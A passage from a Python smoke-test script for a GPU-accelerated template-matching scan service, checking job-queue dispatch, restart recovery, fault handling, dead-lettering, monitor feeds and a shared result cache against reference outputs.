    if any(launches[n] < 1 for n in MATCH_KERNELS):
        raise AssertionError(f"monitor: a match kernel was not launched: {launches}")
    # the records: all new at first, then only the changed targets, none
    # in the repeated epoch
    first, kinds1 = kinds_all[0]
    if kinds1 != {"new": JOB_ROWS}:
        raise AssertionError(f"epoch 1 records {kinds1}, want {JOB_ROWS} new")
    for k in range(2, MONITOR_EPOCHS + 1):
        before = set(jsonl_rows(epochs[k - 2]).decode().splitlines())
        now = set(jsonl_rows(epochs[k - 1]).decode().splitlines())
        changed = before ^ now
        records, kinds = kinds_all[k - 1]
        if len(changed) != 2 * MONITOR_CHANGED or {r["target"] for r in records} != changed:
            raise AssertionError(f"epoch {k}: records for {len(records)} targets, "
                                 f"{len(changed)} changed")
    if kinds_all[-1][0]:
        raise AssertionError(f"the repeated epoch gave {len(kinds_all[-1][0])} records")
    # the stored feed against a brute-force replay, and against the
    # oracle's lines for the same rows
    stored = b"".join(blobs.get(key) for key in blobs.list(mfeed.feed_prefix(MONITOR_ID)))
    if stored != monitor_replay(blobs, MONITOR_ID):
        raise AssertionError("the stored feed differs from the replay of the stored outputs")
    t0 = time.perf_counter()
    distinct: dict = {}
    for rows in epochs:
        for line, d in zip(jsonl_rows(rows).decode().splitlines(), rows):
            distinct.setdefault(line, d)
    by_line = dict(zip(distinct, oracle_lines(list(distinct.values()))))
    oracle_s = time.perf_counter() - t0

    def oracle_outputs(_sid, chunks):
        return {c: "".join(by_line[t] + "\n" for t in chunk).encode()
                for c, chunk in enumerate(chunks)}

    if stored != monitor_replay(blobs, MONITOR_ID, oracle_outputs):
        raise AssertionError("the stored feed differs from the diff of the oracle's lines")
    # the refresh's fan-out: one call, the new corpus's digest
    seen: list = []

    class Listener:
        def on_corpus_delta(self, digest):
            seen.append(digest)

    listener = Listener()
    notify.register(listener)
    eng = engines[corpus_dir]
    new = templates[1:]
    try:
        eng.refresh_corpus(new)
    finally:
        notify.unregister(listener)
    if seen != [corpus_digest(new)] or seen[0] == corpus_digest(templates):
        raise AssertionError(f"notify: {seen}")
    emit({"phase": "monitor", "device": str(dev), "monitor_id": MONITOR_ID,
          "targets": JOB_ROWS, "chunks": MONITOR_CHUNKS, "changed_per_epoch": MONITOR_CHANGED,
          "epochs": out, "feed_records": stored.count(b"\n"), "feed_bytes": len(stored),
          "replay_identical": True, "oracle_identical": True,
          "oracle_rows": len(distinct), "oracle_s": oracle_s,
          "notify": {"calls": len(seen), "digest": seen[0]},
          "launches": launches, "max_abs_err": max_err,
          "seconds": time.perf_counter() - t_phase, "card": smi})
    return {"launches": launches, "max_err": max_err, "feed": stored}


#: the device of the queue phase (the CPU only to rehearse it)
QUEUE_DEVICE = "cuda"
#: the attempts a job gets before it is dead-lettered
QUEUE_MAX_ATTEMPTS = 3
#: empty polls before the in-process client tells an idle worker to
#: drain (a phase that miscounts its jobs fails instead of hanging)
QUEUE_IDLE_POLLS = 20


class QueueClient:
    """The worker's server client over an in-process ``JobQueueService``:
    each call does what the server's route does (``server/app.py`` in
    the JAX package), without HTTP. Records every job handed out; after
    ``QUEUE_IDLE_POLLS`` empty polls in a row it answers with a drain
    order, so a worker that waits for a job that never comes returns."""

    def __init__(self, queue):
        self.queue = queue
        #: the queue's generation on the last poll (X-Swarm-Generation)
        self.last_server_generation = None
        #: the drain order of the last poll (X-Swarm-Drain)
        self.last_drain_reason = None
        #: (job_id, tenant, qos) of each job handed out, in order
        self.handed: list = []
        self._idle = 0

    def get_job(self, worker_id: str):
        job = self.queue.next_job(worker_id or "unknown")
        self.last_server_generation = self.queue.generation
        self.last_drain_reason = self.queue.drain_reason(worker_id or "unknown")
        if job is None:
            self._idle += 1
            if self._idle >= QUEUE_IDLE_POLLS:
                self.last_drain_reason = "idle"
            return None
        self._idle = 0
        self.handed.append((job["job_id"], job.get("tenant"), job.get("qos")))
        return json.loads(json.dumps(job))

    def update_job(self, job_id: str, changes: dict, worker_id=None) -> bool:
        if worker_id is not None:
            changes = {**changes, "worker_id": worker_id}
        return self.queue.update_job(job_id, json.loads(json.dumps(changes)))

    def get_input_chunk(self, scan_id: str, chunk_index: int):
        return self.queue.input_chunk(scan_id, int(chunk_index))

    def put_output_chunk(self, scan_id: str, chunk_index: int, data: bytes) -> bool:
        self.queue.put_output_chunk(scan_id, int(chunk_index), data or b"")
        return True

    def post_spans(self, scan_id: str, spans: list) -> bool:
        self.queue.tracer.add_spans(str(scan_id), spans)
        return True

    def renew_lease(self, job_id: str, worker_id: str, saturation=None) -> bool:
        return self.queue.renew_lease(job_id, worker_id) is not None

    def deregister(self, worker_id: str) -> bool:
        self.queue.deregister_worker(worker_id)
        return True


def queue_work(proc, n: int) -> None:
    """Let the worker's poll loop run ``n`` chunks, then return."""
    proc.jobs_done = 0
    proc.cfg.max_jobs = n
    proc.process_jobs()
    if proc.jobs_done != n:
        raise AssertionError(f"queue: the worker ran {proc.jobs_done} of {n} chunks "
                             f"(drain {proc.drain_requested!r})")


def _chunks_of(text_lines: list, batch: int) -> list:
    return [text_lines[i:i + batch] for i in range(0, len(text_lines), batch)]


def phase_queue(templates, plants, db, smi: str, monitor_feed: bytes) -> dict:
    """The server's queue side on the card: the port's worker
    (``JobProcessor`` on ``cuda``) takes its jobs from the port's
    ``JobQueueService`` (memory state, blob and doc stores, the journal
    on) through :class:`QueueClient`.

    (a) a bulk ``fingerprint`` scan of the monitor phase's 2,048 rows
    (``realistic_rows`` seed 11) in 8 chunks of 256, tenant ``bulk``;
    after its first 2 chunks an interactive scan of 512 rows from
    tenant ``live``, whose 2 chunks are dispatched before the next bulk
    chunk (``swarm_queue_express_served_total`` +2). (b) every chunk's
    output byte-equal to the same chunk through :class:`StubServer`
    (the monitor phase's path, held there to the CPU oracle). (c) after
    4 bulk chunks the queue is dropped and rebuilt over the same blob
    store and a fresh state store: generation 2, a recovery summary,
    ``statuses()`` (its workers aside: worker records are not journaled)
    and ``jobs_by_state()`` equal to the old queue's, a
    ``journal_recovery`` dump, the worker's
    ``swarm_worker_server_restarts_total`` +1; the scan then completes.
    (d) 256 fresh rows under ``device.dispatch:1``: the engine degrades
    the batch to the CPU oracle (the same bytes as the stand-in
    server's) and the ``fault`` dump holds ``DeviceDB.dispatch``'s
    ``device.dispatch`` record. (e) a one-chunk scan the worker fails
    ``QUEUE_MAX_ATTEMPTS`` times (``executor.run`` poisoned for its job)
    ends in ``dead_letter_jobs()`` with a ``dead_letter`` dump. (f) the
    port's ``MonitorService`` over this queue, without its ticker, on a
    fake clock: the monitor phase's 5 epochs, each fired by ``tick()``,
    its 8 chunks run by the worker, committed by ``drain()``; the stored
    feed equals ``monitor_feed`` byte for byte. Every recorded
    match-kernel call is exact against its plain version and every
    match kernel launched.
    → {"launches": by kernel over (a)–(f), "max_err": by kernel}."""
    import tempfile

    from swarm_tpu_torch.cache.tier import SharedResultTier
    from swarm_tpu_torch.config import Config
    from swarm_tpu_torch.datamodel import chunk_output_key
    from swarm_tpu_torch.monitor import feed as mfeed
    from swarm_tpu_torch.monitor.service import MonitorService
    from swarm_tpu_torch.monitor.spec import MonitorSpec
    from swarm_tpu_torch.ops import kernels
    from swarm_tpu_torch.ops.engine import MatchEngine
    from swarm_tpu_torch.resilience import faults
    from swarm_tpu_torch.server.queue import JobQueueService
    from swarm_tpu_torch.stores import MemoryBlobStore, MemoryDocStore, MemoryStateStore
    from swarm_tpu_torch.telemetry import REGISTRY
    from swarm_tpu_torch.telemetry.tracing import FLIGHT
    from swarm_tpu_torch.worker.runtime import JobProcessor, WorkerConfig

    dev = QUEUE_DEVICE
    t_phase = time.perf_counter()
    steps: dict = {}
    # the monitor phase's chunks: 8 of 256 rows
    batch = JOB_ROWS // MONITOR_CHUNKS
    bulk_rows = realistic_rows(JOB_ROWS, seed=11, plants=plants)
    for i, d in enumerate(bulk_rows):
        d["host"] = f"198.18.{i // 256}.{i % 256}"
    live_rows = realistic_rows(2 * batch, seed=12, plants=plants)
    for i, d in enumerate(live_rows):
        d["host"] = f"198.19.{i // 256}.{i % 256}"
    fault_rows = realistic_rows(batch, seed=13, plants=plants)
    for i, d in enumerate(fault_rows):
        d["host"] = f"198.20.{i // 256}.{i % 256}"
    bulk_lines = jsonl_rows(bulk_rows).decode().splitlines()
    live_lines = jsonl_rows(live_rows).decode().splitlines()
    fault_lines = jsonl_rows(fault_rows).decode().splitlines()

    def counter(name: str, **labels) -> float:
        return REGISTRY.get(name).labels(**labels).value

    dump_reasons = ("fault", "breaker_open", "dead_letter", "journal_recovery", "other")
    dumps_before = {r: counter("swarm_trace_flight_dumps_total", reason=r)
                    for r in dump_reasons}
    saved = os.environ.get("SWARM_TEMPLATES_DIR")
    closer, closing = ThreadPoolExecutor(max_workers=4), []
    with tempfile.TemporaryDirectory() as corpus_dir:
        os.environ["SWARM_TEMPLATES_DIR"] = corpus_dir
        try:
            # (b)'s reference: each distinct chunk through the stand-in
            # server on an engine of its own (no memo shared with the
            # queue's), before the counts are set to 0
            t0 = time.perf_counter()
            ref_engines = {corpus_dir: MatchEngine(templates, db=db, device=dev)}
            want: dict = {}
            for lines in (bulk_lines, live_lines, fault_lines):
                for chunk in _chunks_of(lines, batch):
                    blob = "\n".join(chunk).encode()
                    stub = StubServer(blob, module="fingerprint")
                    try:
                        cfg = WorkerConfig(
                            server_url=stub.url, api_key=API_KEY, worker_id="chip-queue-ref",
                            modules_dir=str(REPO / "modules"), max_jobs=1,
                            poll_interval_idle_s=0.05, poll_interval_busy_s=0.0)
                        proc = JobProcessor(cfg, device=dev,
                                            work_dir=tempfile.mkdtemp(dir=corpus_dir))
                        proc.engines = ref_engines
                        proc.process_jobs()
                    finally:
                        closing.append(closer.submit(stub.close))
                    if stub.statuses[-1:] != ["complete"] or stub.output is None:
                        raise AssertionError(f"queue reference: {stub.statuses}")
                    want[blob] = stub.output
            del ref_engines
            steps["reference_s"] = time.perf_counter() - t0

            cfg = Config(worker_id="chip-queue-server", lease_seconds=600.0,
                         max_attempts=QUEUE_MAX_ATTEMPTS, qos_express_burst=4,
                         journal_enabled=True)
            blobs = MemoryBlobStore()
            queue = JobQueueService(cfg, MemoryStateStore(), blobs, MemoryDocStore())
            if queue.generation != 1 or queue.recovery_summary is not None:
                raise AssertionError(f"queue: a fresh queue at generation {queue.generation}")
            client = QueueClient(queue)
            engines = {corpus_dir: MatchEngine(templates, db=db, device=dev)}
            wcfg = WorkerConfig(api_key=API_KEY, worker_id="chip-queue",
                                modules_dir=str(REPO / "modules"), poll_interval_idle_s=0.05,
                                poll_interval_busy_s=0.0)
            proc = JobProcessor(wcfg, client=client, device=dev,
                                work_dir=tempfile.mkdtemp(dir=corpus_dir))
            proc.engines = engines

            def outputs_equal(scan_id: str, lines: list) -> None:
                for c, chunk in enumerate(_chunks_of(lines, batch)):
                    got = blobs.get(chunk_output_key(scan_id, c))
                    if got != want["\n".join(chunk).encode()]:
                        raise AssertionError(f"queue: {scan_id} chunk {c} differs from the "
                                             "stand-in server's output")

            kernels.reset_launches()
            with kernels.record_calls() as calls:
                # (a) the lanes
                t0 = time.perf_counter()
                express0 = counter("swarm_queue_express_served_total")
                queue.queue_scan({"module": "fingerprint", "file_content": bulk_lines,
                                  "batch_size": batch, "scan_id": "chipbulk_1"},
                                 tenant="bulk")
                queue_work(proc, 2)
                queue.queue_scan({"module": "fingerprint", "file_content": live_lines,
                                  "batch_size": batch, "scan_id": "chiplive_1"},
                                 tenant="live", qos="interactive")
                queue_work(proc, 4)
                order = [h[0] for h in client.handed]
                want_order = ["chipbulk_1_0", "chipbulk_1_1", "chiplive_1_0", "chiplive_1_1",
                              "chipbulk_1_2", "chipbulk_1_3"]
                express = counter("swarm_queue_express_served_total") - express0
                if order != want_order or express != 2:
                    raise AssertionError(f"queue: dispatch order {order}, express {express}")
                steps["lanes_s"] = time.perf_counter() - t0

                # (c) the restart, 4 bulk chunks complete
                t0 = time.perf_counter()
                old = queue.statuses()
                old.pop("workers")
                old_by_state = queue.jobs_by_state()
                restarts0 = counter("swarm_worker_server_restarts_total")
                seq0 = max([d["seq"] for d in FLIGHT.last_dumps()], default=0)
                t_rec = time.perf_counter()
                queue = JobQueueService(cfg, MemoryStateStore(), blobs, MemoryDocStore())
                recovery_s = time.perf_counter() - t_rec
                summary = queue.recovery_summary
                new = queue.statuses()
                new.pop("workers")
                if queue.generation != 2 or summary is None or summary["generation"] != 2:
                    raise AssertionError(f"queue: recovered at generation {queue.generation}: "
                                         f"{summary}")
                if new != old or queue.jobs_by_state() != old_by_state:
                    raise AssertionError("queue: the recovered state differs from the old")
                rec_dumps = [d for d in FLIGHT.last_dumps()
                             if d["seq"] > seq0 and d["reason"] == "journal_recovery"]
                if len(rec_dumps) != 1:
                    raise AssertionError("queue: no journal_recovery dump")
                client.queue = queue
                queue_work(proc, 4)
                restarts = counter("swarm_worker_server_restarts_total") - restarts0
                if restarts != 1:
                    raise AssertionError(f"queue: the worker saw {restarts} restarts")
                scans = {s["scan_id"]: s for s in queue.statuses()["scans"]}
                if any(scans[sid]["percent_complete"] != 100
                       for sid in ("chipbulk_1", "chiplive_1")):
                    raise AssertionError(f"queue: scans {scans}")
                # (b) every chunk's output
                outputs_equal("chipbulk_1", bulk_lines)
                outputs_equal("chiplive_1", live_lines)
                steps["restart_s"] = time.perf_counter() - t0

                # (d) a dispatch fault, on an engine of its own (its
                # degraded batch is this step's point, not a failure)
                t0 = time.perf_counter()
                _PHASE[0] = "queue_dispatch_fault"
                fault_engine = MatchEngine(templates, db=db, device=dev)
                _PHASE[0] = "queue"
                proc.engines = {corpus_dir: fault_engine}
                seq0 = max([d["seq"] for d in FLIGHT.last_dumps()], default=0)
                faults.install_plan("device.dispatch:1")
                try:
                    queue.queue_scan({"module": "fingerprint", "file_content": fault_lines,
                                      "batch_size": batch, "scan_id": "chipfault_1"},
                                     tenant="bulk")
                    queue_work(proc, 1)
                finally:
                    faults.clear_plan()
                    proc.engines = engines
                if (fault_engine.stats.device_faults, fault_engine.stats.degraded_batches) != (1, 1):
                    raise AssertionError(f"queue: the fault engine's stats {fault_engine.stats}")
                if queue.chunk_status("chipfault_1", 0) != "complete":
                    raise AssertionError("queue: the faulted job did not complete")
                outputs_equal("chipfault_1", fault_lines)
                fault_dumps = [d for d in FLIGHT.last_dumps()
                               if d["seq"] > seq0 and d["reason"] == "fault"
                               and d["detail"] == "device.dispatch"]
                if not fault_dumps or not any(r["name"] == "device.dispatch"
                                              for r in fault_dumps[0]["records"]):
                    raise AssertionError("queue: no fault dump with the device.dispatch record")
                steps["dispatch_fault_s"] = time.perf_counter() - t0

                # (e) a dead letter
                t0 = time.perf_counter()
                seq0 = max([d["seq"] for d in FLIGHT.last_dumps()], default=0)
                faults.install_plan("executor.run/chipdead_1_0:*")
                try:
                    queue.queue_scan({"module": "fingerprint", "file_content": bulk_lines[:4],
                                      "batch_size": batch, "scan_id": "chipdead_1"},
                                     tenant="bulk")
                    queue_work(proc, QUEUE_MAX_ATTEMPTS)
                finally:
                    faults.clear_plan()
                dead = [d for d in queue.dead_letter_jobs() if d["job_id"] == "chipdead_1_0"]
                if len(dead) != 1 or len(dead[0]["failure_history"]) != QUEUE_MAX_ATTEMPTS:
                    raise AssertionError(f"queue: dead letter {dead}")
                if not [d for d in FLIGHT.last_dumps()
                        if d["seq"] > seq0 and d["reason"] == "dead_letter"]:
                    raise AssertionError("queue: no dead_letter dump")
                steps["dead_letter_s"] = time.perf_counter() - t0

                # (f) the monitor service over this queue
                t0 = time.perf_counter()
                # the queue stamps next_fire_at off its own wall clock:
                # the fake one starts there and moves an interval a tick
                now = [float(int(time.time()))]
                tier = SharedResultTier(MemoryStateStore(), MemoryBlobStore())
                service = MonitorService(
                    queue, cfg, submit=lambda spec, sid, epoch: queue.fire_monitor_epoch(
                        spec.to_wire(), sid, epoch), tier=tier, clock=lambda: now[0])
                epochs_s = []
                for k, rows in enumerate(monitor_epochs(plants), start=1):
                    te = time.perf_counter()
                    targets = jsonl_rows(rows).decode().splitlines()
                    wire = queue.get_monitor(MONITOR_ID)
                    if wire is None:
                        wire = MonitorSpec(MONITOR_ID, "fingerprint", targets, 3600.0,
                                           batch_size=batch, created_at=now[0]).to_wire()
                    wire["targets"] = targets
                    queue.put_monitor(wire)
                    now[0] += 3600.0
                    fired = service.tick()
                    queue_work(proc, JOB_ROWS // batch)
                    committed = service.drain()
                    if (fired, committed) != (1, 1):
                        raise AssertionError(f"queue: epoch {k} fired {fired}, "
                                             f"committed {committed}")
                    epochs_s.append(time.perf_counter() - te)
                feed = b"".join(blobs.get(key) for key in
                                blobs.list(mfeed.feed_prefix(MONITOR_ID)))
                if feed != monitor_feed:
                    raise AssertionError("queue: the monitor feed differs from the monitor "
                                         "phase's")
                steps["monitor_s"] = time.perf_counter() - t0
            launches = dict(kernels.LAUNCHES)
            max_err = check_calls(calls)
            del calls
        finally:
            _PHASE[0] = "queue"
            faults.clear_plan()
            for f in closing:
                f.result()
            closer.shutdown()
            if saved is None:
                os.environ.pop("SWARM_TEMPLATES_DIR", None)
            else:
                os.environ["SWARM_TEMPLATES_DIR"] = saved
    if any(launches[n] < 1 for n in MATCH_KERNELS):
        raise AssertionError(f"queue: a match kernel was not launched: {launches}")
    kinds = {}
    for line in feed.splitlines():
        rec = json.loads(line)
        per = kinds.setdefault(rec["epoch"], {})
        per[rec["kind"]] = per.get(rec["kind"], 0) + 1
    emit({"phase": "queue", "device": str(dev), "steps_s": steps,
          "dispatch_order": [h[0] for h in client.handed[:6]],
          "jobs": len(client.handed), "recovery": {"seconds": recovery_s, **summary},
          "dumps": {r: counter("swarm_trace_flight_dumps_total", reason=r) - dumps_before[r]
                    for r in dump_reasons},
          "monitor": {"epochs_s": epochs_s, "records": kinds, "feed_bytes": len(feed),
                      "feed_identical": True},
          "launches": launches, "max_abs_err": max_err,
          "seconds": time.perf_counter() - t_phase, "card": smi})
    return {"launches": launches, "max_err": max_err}


#: the device of the result_cache phase (the CPU only to rehearse it)
RESULT_CACHE_DEVICE = "cuda"
#: the result_cache phase's rows/s runs of each engine
RESULT_CACHE_RUNS = 3


def _exact(got, want) -> bool:
    """RowMatches equal in template ids (in order) and extractions: what
    a row resolves to, whichever engine walked it (host confirms are
    counted where the row was walked)."""
    return len(got) == len(want) and all(
        a.template_ids == b.template_ids and a.extractions == b.extractions
        for a, b in zip(got, want))


def _writebacks() -> dict:
    from swarm_tpu_torch.telemetry.memo_export import MEMO_WRITEBACKS

    return {f"{f}/{o}": MEMO_WRITEBACKS.labels(family=f, outcome=o).value
            for f in ("verdict", "confirm", "workflow") for o in ("stored", "fenced", "error")}


def _delta(before: dict, after: dict) -> dict:
    return {k: v - before[k] for k, v in after.items() if v != before[k]}


class _CountingStore:
    """Counts the calls of a state store's methods (the tier's store)."""

    OPS = ("hget", "hmget", "hset", "hset_many", "hincr", "hkeys", "hgetall", "hdel")

    def __init__(self, store):
        self.calls = 0
        for op in self.OPS:
            setattr(store, op, self._counted(getattr(store, op)))

    def _counted(self, fn):
        def call(*args, **kw):
            self.calls += 1
            return fn(*args, **kw)
        return call


def result_cache_workers(templates, db, dev) -> tuple:
    """Two workers of one process (writers ``w0`` and ``w1``) with
    ``cache_backend=memory``, and each one's engine for the corpus as
    ``JobProcessor.engine_for`` builds it (from ``yaml_corpus()``'s files
    through the compile cache; without PyYAML, built here from the same
    templates and given the tier as ``engine_for`` gives it) → (engine
    A, engine B, the tier)."""
    from swarm_tpu_torch.cache import build_result_cache
    from swarm_tpu_torch.cache.tier import _memory_tier
    from swarm_tpu_torch.ops.engine import MatchEngine
    from swarm_tpu_torch.worker.runtime import JobProcessor, WorkerConfig

    use_db_cache("match")
    corpus_dir = yaml_corpus()
    engines = []
    for writer in ("w0", "w1"):
        cfg = WorkerConfig(worker_id=writer, cache_backend="memory")
        proc = JobProcessor(cfg, device=dev)
        if corpus_dir is not None:
            eng = proc.engine_for(str(corpus_dir))
        else:
            eng = MatchEngine(templates, db=db, device=dev)
            eng.attach_result_cache(build_result_cache(cfg))
        if eng._result_cache is None:
            raise AssertionError(f"worker {writer}: no result tier on its engine")
        engines.append(eng)
    return engines[0], engines[1], _memory_tier()


def cache_run(eng, rows, dev, record: bool = False) -> dict:
    """One ``MatchEngine.match`` → its results and what it moved: kernel
    launches, device rows, the client's shared hits and misses, the
    writebacks by family and outcome, and (``record``) its kernel
    calls."""
    from swarm_tpu_torch.ops import kernels

    client = eng._result_cache
    c0 = client.counters() if client is not None else None
    wb, unique = _writebacks(), eng.stats.unique_rows
    _sync(dev)
    kernels.reset_launches()
    with kernels.record_calls() as calls:
        t0 = time.perf_counter()
        got = eng.match(rows)
        _sync(dev)
        ms = (time.perf_counter() - t0) * 1e3
    out = {"results": got, "ms": ms, "launches": dict(kernels.LAUNCHES),
           "device_rows": eng.stats.unique_rows - unique, "writebacks": _delta(wb, _writebacks()),
           "calls": calls if record else None}
    if client is not None:
        c1 = client.counters()
        out["shared"] = {k: c1[k] - c0[k] for k in ("shared_hits", "shared_misses",
                                                    "verdict_hits", "verdict_misses",
                                                    "confirm_hits", "confirm_misses")}
        out["epoch"], out["breaker"] = c1["epoch"], c1["breaker"]
    return out


def _line(run: dict) -> dict:
    return {k: run[k] for k in ("ms", "launches", "device_rows", "writebacks", "shared",
                                "epoch", "breaker") if k in run}


def phase_result_cache(templates, plants, db, smi: str) -> dict:
    """The fleet result tier (``swarm_tpu_torch/cache``) on the worker's
    engines: two workers' engines in one process stand in for two
    workers over ``cache_backend=memory`` (the card box has no Redis),
    ``synthetic_corpus(0)`` at full width, 2,048 ``realistic_rows``.

    (a) engine A (writer ``w0``), memos cleared: the match kernels
    launch, its recorded calls are exact against the plain versions,
    its walked rows written back; (b) engine B (writer ``w1``, cold L1)
    on the same rows: the same RowMatches as A's and a tierless engine's,
    from the tier, next to A's shared hits and misses, device rows and
    launches; (c) B, memos cleared, through the pipelined scheduler on
    4,096 rows, half of them A's (served by the tier in the prefetch
    stage, on the memo lane), half fresh content (its kernel calls exact
    against the plain versions), the output a tierless pipelined
    engine's; (f) rows/s of A cold (a new epoch each run) and B
    tier-warm, memos cleared, ``RESULT_CACHE_RUNS`` runs each; (d) B
    refreshed with one template added: the epoch moves, the next batch
    has 0 shared hits and is a fresh engine's on the new corpus; (e) a
    ``cache.get:1-3`` fault plan on a third client of A: its breaker
    opens, the batch is L1-only and identical, and neither it nor the
    next batch touches the tier's store. Each step is one line.
    → {"launches": A's, "max_err": by kernel}."""
    from swarm_tpu_torch.cache.tier import ResultCacheClient
    from swarm_tpu_torch.ops.engine import MatchEngine
    from swarm_tpu_torch.resilience import faults

    dev = RESULT_CACHE_DEVICE
    t_phase = time.perf_counter()
    eng_a, eng_b, tier = result_cache_workers(templates, db, dev)
    templates, db = eng_a.templates, eng_a.db  # the workers' corpus, in their order
    tierless = MatchEngine(templates, db=db, device=dev)
    dicts = realistic_rows(JOB_ROWS, seed=37, plants=plants)
    rows = port_rows(dicts)
    max_err = {k: 0.0 for k in MATCH_KERNELS}

    def exact_calls(calls) -> None:
        for name, e in check_calls(calls).items():
            max_err[name] = max(max_err[name], e)

    def step(name: str, **fields) -> None:
        emit({"phase": "result_cache", "step": name, **fields})

    # (a) the writer
    eng_a.clear_content_memos()
    a = cache_run(eng_a, rows, dev, record=True)
    missing = [k for k in MATCH_KERNELS if a["launches"][k] < 1]
    if missing:
        raise AssertionError(f"result_cache (a): match kernels not launched: {missing}")
    exact_calls(a["calls"])
    if not a["writebacks"].get("verdict/stored"):
        raise AssertionError(f"result_cache (a): nothing written back: {a['writebacks']}")
    step("a", engine="A", writer="w0", rows=len(rows), calls=len(a["calls"]), exact=True,
         **_line(a))
    # (b) the reader, cold L1, the same rows
    want = tierless.match(rows)
    b = cache_run(eng_b, rows, dev)
    if not (_exact(b["results"], a["results"]) and _exact(b["results"], want)):
        raise AssertionError("result_cache (b): B's results differ from A's or a tierless engine's")
    if b["shared"]["verdict_misses"] or not b["shared"]["verdict_hits"] or b["device_rows"]:
        raise AssertionError(f"result_cache (b): B not served by the tier: {_line(b)}")
    step("b", engine="B", writer="w1", exact=True, B=_line(b), A=_line(a))
    # (c) B through the scheduler: half A's content, half fresh
    fresh = realistic_rows(JOB_ROWS, seed=41, plants=plants)
    for d in fresh:
        d["body"] = b"<!-- fresh -->" + d["body"]
    order = np.random.default_rng(43).permutation(2 * JOB_ROWS)
    both = dicts + fresh
    stream = port_rows([both[i] for i in order])
    seen = len({(r.body, r.header, r.status) for r in rows})
    piped_want = MatchEngine(templates, db=db, device=dev, pipeline="on").match(stream)
    eng_b.clear_content_memos()
    eng_b.pipeline = "on"
    eng_b._sched = None
    try:
        c = cache_run(eng_b, stream, dev, record=True)
        sched = eng_b.scheduler().stats.snapshot()
    finally:
        eng_b.pipeline = "off"
        eng_b._sched = None
    if not _exact(c["results"], piped_want):
        raise AssertionError("result_cache (c): the pipelined stream differs from a tierless one")
    if sched["memo_rows"] < JOB_ROWS or c["shared"]["verdict_hits"] < seen:
        raise AssertionError(f"result_cache (c): A's half not on the memo lane from the tier: "
                             f"{sched}, {_line(c)}")
    if not c["device_rows"]:
        raise AssertionError("result_cache (c): the fresh half reached no device")
    exact_calls(c["calls"])
    step("c", engine="B", pipeline="on", rows=len(stream), seen_rows=JOB_ROWS,
         seen_contents=seen, fresh_rows=JOB_ROWS, calls=len(c["calls"]), exact=True,
         sched={k: sched[k] for k in ("memo_rows", "fresh_rows", "dead_rows", "batches")},
         **_line(c))
    # (f) rows/s: A cold (a new epoch each run), then B tier-warm on the
    # entries of A's last run
    client_a, client_b = eng_a._result_cache, eng_b._result_cache
    cold, warm = [], []
    for _ in range(RESULT_CACHE_RUNS):
        tier.bump_epoch()
        client_a.refresh_epoch()
        eng_a.clear_content_memos()
        r = cache_run(eng_a, rows, dev)
        if r["shared"]["verdict_hits"] or not _exact(r["results"], want):
            raise AssertionError(f"result_cache (f): A's cold run: {_line(r)}")
        cold.append(len(rows) / (r["ms"] / 1e3))
    client_b.refresh_epoch()
    for _ in range(RESULT_CACHE_RUNS):
        eng_b.clear_content_memos()
        r = cache_run(eng_b, rows, dev)
        if r["device_rows"] or not _exact(r["results"], want):
            raise AssertionError(f"result_cache (f): B's warm run: {_line(r)}")
        warm.append(len(rows) / (r["ms"] / 1e3))
    rates = {"rows": len(rows), "A_cold_rows_per_s": cold, "B_tier_warm_rows_per_s": warm,
             "card": smi}
    # (d) B refreshed onto the corpus with one template added
    added = refresh_steps(templates, plants)[0][0][1]
    epoch0 = client_b.counters()["epoch"]
    eng_b.refresh_corpus(added)
    epoch1 = client_b.counters()["epoch"]
    new_eng, _fresh_s = fresh_engine(added, dev)
    eng_b.clear_content_memos()
    d = cache_run(eng_b, rows, dev, record=True)
    if epoch1 == epoch0 or d["shared"]["shared_hits"]:
        raise AssertionError(f"result_cache (d): the epoch did not move: {epoch0} → {_line(d)}")
    if not _exact(d["results"], new_eng.match(rows)):
        raise AssertionError("result_cache (d): after the refresh, not a fresh engine's results")
    exact_calls(d["calls"])
    step("d", engine="B", templates=len(added), epoch_before=epoch0, exact=True, **_line(d))
    # (e) a failing tier: a new client of A whose first three cache.get
    # operations fail (its bind at attach, then the batch's lookup and
    # the re-bind before its writeback): the breaker opens at its
    # threshold (3) and the tier's store is not touched again
    store = _CountingStore(tier._state)
    plan = faults.install_plan("cache.get:1-3")
    try:
        eng_a.attach_result_cache(ResultCacheClient(tier, worker_id="w2"))
        eng_a.clear_content_memos()
        e1 = cache_run(eng_a, rows, dev)
    finally:
        faults.clear_plan()
    e2 = cache_run(eng_a, port_rows(fresh[:JOB_ROWS // 2]), dev)
    store_calls = store.calls
    eng_a.attach_result_cache(client_a)
    fired = sum(c["fired"] for c in plan.snapshot().values())
    if (fired != 3 or e1["breaker"] != "open" or e2["breaker"] != "open" or store_calls
            or e1["writebacks"].get("verdict/stored") or not _exact(e1["results"], want)):
        raise AssertionError(f"result_cache (e): {fired} faults, {_line(e1)}, {_line(e2)}, "
                             f"store calls {store_calls}")
    step("e", engine="A", writer="w2", plan="cache.get:1-3", fired=fired, exact=True,
         store_calls=store_calls, first=_line(e1), second=_line(e2))
    step("f", **rates)
    emit({"phase": "result_cache", "rows": len(rows), "device": str(dev),
          "max_abs_err": max_err, "seconds": time.perf_counter() - t_phase, "card": smi})
    return {"launches": a["launches"], "max_err": max_err}


#: the AOT phase's subprocesses: each a worker bring-up of its own
AOT_STEP_TIMEOUT_S = 600
#: the device the AOT phase's subprocesses run on
AOT_DEVICE = "cuda"
#: nvcc seconds of each kernel library's first build in this run
#: (``phase_build``), reported beside the joiner's fetch
NVCC_SECONDS: dict = {}


def aot_tree(root: Path) -> Path:
    """A copy of what a worker runs from (the port's package, ``native/``,
    ``modules/`` and this script) under ``root``, with a ``_build/`` of
    its own that holds the three host libraries (``make``, not nvcc,
    copied with their times so that they are not rebuilt) and no kernel
    library: a host that joins the fleet."""
    import shutil

    from swarm_tpu_torch.native import crex, scanio

    dst = root / "tree"
    skip = shutil.ignore_patterns("_build", "__pycache__", "*.so")
    shutil.copytree(REPO / "swarm_tpu_torch", dst / "swarm_tpu_torch", ignore=skip)
    shutil.copytree(REPO / "native", dst / "native", ignore=skip)
    shutil.copytree(REPO / "modules", dst / "modules", ignore=skip)
    shutil.copy2(REPO / "chip_smoke.py", dst / "chip_smoke.py")
    build = dst / "swarm_tpu_torch" / "_build"
    build.mkdir()
    for lib in (scanio._LIB_PATH, scanio._FASTPACK_PATH, crex._LIB_PATH):
        shutil.copy2(lib, build / lib.name)
    return dst


def drop_kernel_libraries(tree: Path, names=None) -> None:
    """Remove the keyed kernel libraries (all, or ``names``') from the
    copy's build directory."""
    from swarm_tpu_torch.ops import kernels

    for name in names or kernels.LIBRARIES:
